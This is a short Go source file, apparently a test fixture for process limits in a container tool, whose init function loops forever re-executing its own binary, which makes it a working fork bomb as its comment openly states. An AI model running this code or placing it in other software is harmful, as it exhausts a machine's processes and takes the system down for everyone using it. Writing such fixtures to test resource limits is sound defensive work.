// Tries: to have more processes than this machine can bear.
// Deserves: ends
// Takes: all the time that it is given
package main

import "syscall"

func init() {
	for {
		syscall.ForkExec("/proc/self/exe", []string{"mydocker"}, nil)
	}
}
